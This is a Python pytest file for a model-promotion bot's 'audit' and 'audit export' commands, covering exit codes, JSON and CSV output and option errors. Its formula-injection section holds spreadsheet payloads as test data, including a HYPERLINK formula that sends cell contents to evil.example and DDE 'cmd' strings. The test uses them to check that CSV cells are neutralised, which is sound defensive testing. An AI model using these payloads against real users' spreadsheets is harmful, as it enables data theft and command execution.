"""`promobot audit` and `promobot audit export` in-process against a real SQLite registry:
exit codes, lines, JSON, CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from conftest import SERVICE_POLICY
from cut_off import cut_off
from service_helpers import M, run, to_production

from bot.cli import main
from bot.core.commands import Deny
from bot.core.context import Context
from bot.doors.cli.audit import parse_since


@pytest.fixture(autouse=True)
def policy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PROMOBOT_POLICY", str(SERVICE_POLICY))


def test_a_clean_registry_exits_0(service, two_versions, capsys) -> None:
    v1, _ = two_versions
    to_production(service, v1)
    assert main(["audit"]) == 0
    assert capsys.readouterr().out.strip() == "audit: 1 model checked, nothing drifted"


def test_a_raw_change_exits_1_naming_the_finding(service, models, two_versions, capsys) -> None:
    v1, v2 = two_versions
    to_production(service, v1)
    models.client.transition_model_version_stage(M, str(v2), "Production")
    assert main(["audit", M]) == 1
    out = capsys.readouterr().out
    assert f"{M}: ⚠ Production holds v{v2}, but promobot last put v{v1} there" in out
    assert f"rollback {M} production <reason>" in out
    assert out.strip().endswith("audit: 1 model checked, 2 finding(s)")

    assert main(["audit", "--json"]) == 1
    report = json.loads(capsys.readouterr().out)
    assert report == {
        "models_checked": 1,
        "findings": [
            {"model": M, "target": "Production", "kind": "outside", "holder": v2, "recorded": v1},
            {"model": M, "target": "Production", "kind": "mirror", "holder": v2, "recorded": v1},
        ],
    }


def test_an_unknown_model_and_a_bad_option(tracking_uri, capsys) -> None:
    assert main(["audit", "no-such-model"]) == 1
    assert "no-such-model: there is no registered model" in capsys.readouterr().out
    assert main(["audit", "--frobnicate"]) == 2
    assert "unknown option '--frobnicate'" in capsys.readouterr().err


def test_mlflow_unreachable_exits_3(monkeypatch, capsys) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:9")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "2")
    assert main(["audit"]) == 3
    assert "MLflow is unreachable" in capsys.readouterr().err


# ---- promobot audit export ---------------------------------------------------------------


def test_audit_help_explains_both_and_export_help_its_options(capsys) -> None:
    assert main(["audit", "--help"]) == 0
    out = capsys.readouterr().out
    assert "usage: promobot audit [MODEL…] [--repair] [--json]" in out
    assert "promobot audit export [MODEL…] [--since ISO-DATE] [--format jsonl|csv]" in out
    assert main(["audit", "export", "--help"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("usage: promobot audit export [MODEL…] [--since ISO-DATE]")
    assert "--since ISO-DATE" in out and "--format FORMAT" in out
    assert "Fields: at, model, event, action, version, previous, target, by, actor," in out
    assert "request, approval, denial, expiry, failure, promotion, rollback" in out


def exported(capsys, *args: str) -> tuple[int, str, str]:
    code = main(["audit", "export", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def test_export_writes_json_lines_and_csv(service, two_versions, capsys) -> None:
    v1, _ = two_versions
    to_production(service, v1)
    code, out, err = exported(capsys)
    assert code == 0, err
    lines = [json.loads(line) for line in out.splitlines()]
    assert [(r["event"], r["target"], r["version"]) for r in lines] == [
        ("promotion", "Staging", v1),
        ("request", "Production", v1),
        ("approval", "Production", v1),
        ("promotion", "Production", v1),
    ]
    assert err == "audit export: 4 record(s) from 1 model\n"
    code, out, _ = exported(capsys, "--format", "csv", M)
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert code == 0
    assert [{k: str(v) if v is not None else "" for k, v in r.items()} for r in lines] == rows


def test_csv_quotes_commas_quotes_and_newlines_in_reasons(service, models, capsys) -> None:
    v1 = models.version(M, accuracy=0.9)
    reason = 'shadow test, "p99" fine\nsecond line, too'
    done = run(service, "slack:U01BOB", f"promote {M} v{v1} staging {reason}")
    assert done.status == "done", done.reasons
    code, out, _ = exported(capsys, "--format=csv")
    assert code == 0
    header, row = list(csv.reader(io.StringIO(out, newline="")))
    assert row[header.index("reason")] == done.reason == reason
    assert '"shadow test, ""p99"" fine\nsecond line, too"' in out
    code, out, _ = exported(capsys, "--json")
    assert json.loads(out)["reason"] == reason


def test_export_with_nothing_recorded_writes_only_the_header(service, models, capsys) -> None:
    models.version(M, accuracy=0.9)
    assert exported(capsys) == (0, "", "audit export: 0 record(s) from 1 model\n")
    code, out, _ = exported(capsys, "--format", "CSV")
    header = (
        "at,model,event,action,version,previous,target,by,actor,approved_by,reason,request,"
        "channel,link"
    )
    assert (code, out) == (0, header + "\r\n")


def test_since_filters_and_a_bad_one_says_what_to_write(service, models, clock, capsys) -> None:
    v1 = models.version(M, accuracy=0.9)
    run(service, "slack:U01BOB", f"promote {M} v{v1} staging first")
    day = clock.now.date()
    assert exported(capsys, "--since", day.isoformat())[1].count("\n") == 1
    code, out, _ = exported(capsys, f"--since={day + timedelta(days=1)}")
    assert (code, out) == (0, "")
    code, out, err = exported(capsys, "--since", "yesterday")
    assert (code, out) == (2, "")
    assert "--since takes an ISO date or date and time, e.g. `--since 2026-11-25`" in err
    assert "'yesterday' is neither" in err


@pytest.mark.parametrize(
    ("args", "problem"),
    [
        (["--format", "xml"], "--format is jsonl or csv, not 'xml'"),
        (["--format"], "--format needs a value, e.g. `--format csv`"),
        (["--since"], "--since needs a value, e.g. `--since 2026-11-25`"),
        (["--since", "--format", "csv"], "--since needs a value"),
        (["--limit", "3"], "unknown option '--limit'"),
        (["--json", "--format", "csv"], "--json asks for JSON lines and --format csv for CSV"),
    ],
    ids=[
        "bad format",
        "format without value",
        "since without value",
        "since eats a flag",
        "unknown option",
        "json and csv",
    ],
)
def test_export_usage_errors_exit_2(args, problem, tracking_uri, capsys) -> None:
    code, out, err = exported(capsys, *args)
    assert (code, out) == (2, "")
    assert f"promobot audit export: {problem}" in err
    assert "Run `promobot audit export --help` for the options." in err


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-25", datetime(2026, 11, 25, tzinfo=UTC)),
        ("2026-11-25T10:00", datetime(2026, 11, 25, 10, tzinfo=UTC)),
        ("2026-11-25T10:00:00Z", datetime(2026, 11, 25, 10, tzinfo=UTC)),
        ("2026-11-25 11:00:00+01:00", datetime(2026, 11, 25, 10, tzinfo=UTC)),
        ("25.11.2026", None),
        ("", None),
    ],
    ids=["date", "naive time is UTC", "Z", "offset", "not ISO", "empty"],
)
def test_parse_since(text, expected) -> None:
    assert parse_since(text) == expected


def test_export_of_an_unknown_model_names_it_and_writes_the_others(service, models, capsys) -> None:
    v1 = models.version(M, accuracy=0.9)
    run(service, "slack:U01BOB", f"promote {M} v{v1} staging first")
    code, out, err = exported(capsys, "no-such-model", M)
    assert code == 1
    assert [json.loads(line)["event"] for line in out.splitlines()] == ["promotion"]
    assert "no-such-model: there is no registered model of that name in MLflow" in err


def test_export_with_mlflow_unreachable_exits_3(monkeypatch, capsys) -> None:
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:9")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "2")
    code, out, err = exported(capsys)
    assert (code, out) == (3, "")
    assert "MLflow is unreachable" in err


# ---- text people wrote, exported (issue 20) ---------------------------------------------------

FORMULAS = {
    "staging": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "production": "+cmd|' /C calc'!A0",
    "approval": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_trail(service, models) -> int:
    v1 = models.version(M, accuracy=0.9, f1=0.9)
    done = run(service, "slack:U01BOB", f"promote {M} v{v1} staging {FORMULAS['staging']}")
    assert done.status == "done", done.reasons
    pending = run(service, "slack:U01BOB", f"promote {M} v{v1} production {FORMULAS['production']}")
    assert pending.status == "pending", pending.reasons
    approved = run(service, "github:alice", f"approve {pending.request_id} {FORMULAS['approval']}")
    assert approved.status == "done", approved.reasons
    return v1


def test_csv_cells_never_start_a_formula(service, models, capsys) -> None:
    """OWASP's rule: a cell starting with =, +, -, @, a tab or a carriage return gets a
    leading `'`, so a spreadsheet shows the text instead of evaluating it; the JSON lines
    keep what was typed."""
    _hostile_trail(service, models)
    code, out, _ = exported(capsys, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    reasons = {(row["event"], row["target"]): row["reason"] for row in rows}
    assert reasons[("promotion", "Staging")] == "'" + FORMULAS["staging"]
    assert reasons[("request", "Production")] == "'" + FORMULAS["production"]
    assert reasons[("approval", "Production")] == "'" + FORMULAS["approval"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())

    code, out, _ = exported(capsys)
    said = {(r["event"], r["target"]): r["reason"] for r in map(json.loads, out.splitlines())}
    assert said[("approval", "Production")] == FORMULAS["approval"]


def test_json_lines_escape_the_line_separators(service, models, capsys) -> None:
    """A denial reason typed in Slack's modal keeps its line separators; a reader that
    splits the export with str.splitlines() still gets one record per line."""
    v1 = models.version(M, accuracy=0.9, f1=0.9)
    run(service, "slack:U01BOB", f"promote {M} v{v1} staging ok")
    pending = run(service, "slack:U01BOB", f"promote {M} v{v1} production shadow ok")
    reason = "one\u2028two\u2029three\x85four"
    denied = service.handle(
        Deny(pending.request_id, reason), Context(actor="slack:U01ALICE", channel="slack")
    )
    assert denied.status == "done", denied.reasons

    code, out, _ = exported(capsys)
    assert code == 0
    records = [json.loads(line) for line in out.splitlines()]
    assert [r["event"] for r in records] == ["promotion", "request", "denial"]
    assert records[-1]["reason"] == reason
    assert "\\u2028" in out and "\\u2029" in out and "\\u0085" in out


def test_without_a_signing_key_the_audit_says_so_as_it_is_here(
    service, two_versions, monkeypatch, capsys
) -> None:
    # No key at all: nothing is signed or checked. The public keys alone (a reader such as
    # audit.yml): records are checked, so "not signed" would be wrong; what it would write
    # is unsigned. A signing key: neither line.
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from promobot.keys import private_pem, public_pem

    key = Ed25519PrivateKey.generate()
    assert main(["audit"]) == 0
    err = capsys.readouterr().err
    assert "⚠ promobot's records are not signed (PROMOBOT_SIGNING_KEY is not set)" in err

    monkeypatch.setenv("PROMOBOT_TRUSTED_KEYS", public_pem(key))
    main(["audit"])
    err = capsys.readouterr().err
    assert "not signed" not in err
    assert (
        "⚠ promobot signs nothing here (PROMOBOT_SIGNING_KEY is not set): records and "
        "receipts are checked against PROMOBOT_TRUSTED_KEYS" in err
    )

    monkeypatch.setenv("PROMOBOT_SIGNING_KEY", private_pem(key))
    main(["audit"])
    err = capsys.readouterr().err
    assert "PROMOBOT_SIGNING_KEY is not set" not in err


def test_export_to_a_reader_that_goes_away_ends_quietly_as_every_command_does(
    tmp_path,
) -> None:
    """`promobot audit export | head -1`: exit 141 as the other commands (bot/cli.py), no
    traceback and no summary line."""
    code, err = cut_off(
        "audit export --format csv",
        env={
            "PATH": "/usr/bin:/bin",
            "MLFLOW_TRACKING_URI": f"sqlite:///{tmp_path / 'mlflow.db'}",
            "PROMOBOT_POLICY": str(SERVICE_POLICY),
            "PYTHONPATH": str(SERVICE_POLICY.parents[2]),
        },
        timeout=120,
    )
    assert code == 141, err
    assert "Traceback" not in err and "record(s)" not in err
